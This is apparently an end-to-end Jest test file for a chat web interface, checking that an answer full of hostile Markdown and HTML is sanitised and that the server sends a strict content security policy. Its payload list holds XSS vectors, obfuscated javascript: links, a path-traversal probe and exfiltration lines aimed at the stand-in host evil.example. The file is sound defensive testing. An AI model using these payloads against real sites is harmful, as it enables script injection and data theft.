import { beforeAll, describe, expect, it } from '@jest/globals';
import type { ChatPage } from '../support/chat-page.js';
import { useChatStage } from '../support/chat-stage.js';

const HOSTILE = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"><style>*{display:none}</style></svg>',
  '<iframe src="javascript:parent.hit = 1"></iframe>',
  '<a href="javascript:window.hit=1" id="pwn1">inline html link</a>',
  '[a](javascript:window.hit=1) [b](java\tscript:window.hit=1) [c](&#106;avascript:window.hit=1)',
  '[d](data:text/html,<script>window.hit=1</script>) [e](vbscript:window.hit=1) [f](//evil.example/x) [g](/metrics)',
  '[h](<javascript:window.hit=1>) <javascript:window.hit=1> [i][ref] [j](JaVaScRiPt:window.hit=1)',
  '[ref]: javascript:window.hit=1',
  '![x](https://evil.example/leak?q=secret "t") ![y](javascript:window.hit=1)',
  '```js" onmouseover="window.hit=1\ncode\n```',
  '```<img src=x onerror=window.hit=1>\n</code></pre><script>window.hit=1</script>\n```',
  '| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |',
  '# <b onclick="window.hit=1">title</b>\n\n> <style>body{background:url(https://evil.example)}</style>',
  '[ok](https://example.org/fine) <mailto:a@example.org>',
  '<form action="https://evil.example"><input name="body" id="message"><button>Send</button></form>',
].join('\n\n');

describe('hostile Markdown in an answer', () => {
  const stage = useChatStage();
  let chat: ChatPage;
  const foreign: string[] = [];
  beforeAll(async () => {
    chat = await stage.visit();
    chat.page.on('request', (request) => {
      if (!request.url().startsWith(stage.service.url) && !request.url().startsWith('blob:'))
        foreign.push(request.url());
    });
    await chat.ask(`echo: ${HOSTILE}`);
    await chat.page.reload();
    await chat.shows('inline html link');
  });

  it('runs nothing, asks no other host, and does not even touch the security policy', async () => {
    for (const link of await chat.lastAnswer.getByRole('link').all()) await link.hover();
    expect(await chat.page.evaluate(() => 'hit' in window)).toBe(false);
    expect(foreign).toEqual([]);
    expect(chat.mishaps).toEqual([]);
  });

  it('becomes no element but text, and no attribute that could do anything', async () => {
    const found = await chat.lastAnswer.locator('.prose').evaluate((prose) => {
      const elements = [...prose.querySelectorAll('*')];
      return {
        tags: [...new Set(elements.map((element) => element.localName))],
        attributes: [...new Set(elements.flatMap((element) => element.getAttributeNames()))],
      };
    });
    for (const tag of ['script', 'img', 'iframe', 'style', 'form', 'object', 'embed']) {
      expect(found.tags).not.toContain(tag);
    }
    for (const name of found.attributes) expect(name).not.toMatch(/^on|^style$|^id$|^name$|^src/);
  });

  it('leaves only links of harmless schemes, which open apart', async () => {
    const links = await chat.lastAnswer
      .getByRole('link')
      .evaluateAll((all) => all.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]));
    expect(links.map(([href]) => href)).toEqual([
      'https://evil.example/leak?q=secret',
      'https://example.org/fine',
      'mailto:a@example.org',
    ]);
    for (const [, rel] of links) expect(rel).toBe('noopener noreferrer nofollow');
  });

  it('comes from a service that sends the page with its policy, and every asset for good', async () => {
    const page = await fetch(stage.service.url);
    const policy = page.headers.get('content-security-policy') ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("require-trusted-types-for 'script'; trusted-types 'none'");
    expect(page.headers.get('cache-control')).toBe('no-store');
    const html = await page.text();
    expect(html).not.toMatch(/ style=| on\w+=|<script>|<style/);
    for (const [, asset = ''] of html.matchAll(/"(\/assets\/[^"]+)"/g)) {
      const response = await fetch(stage.service.url + asset);
      expect(response.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
      const again = await fetch(stage.service.url + asset, {
        headers: { 'If-None-Match': response.headers.get('etag') ?? '' },
      });
      expect(again.status).toBe(304);
    }
    expect((await fetch(`${stage.service.url}/assets/none.js`)).status).toBe(404);
    expect((await fetch(`${stage.service.url}/assets/..%2Findex.html`)).status).toBe(404);
    expect((await fetch(`${stage.service.url}/`, { method: 'HEAD' })).status).toBe(200);
  });
});
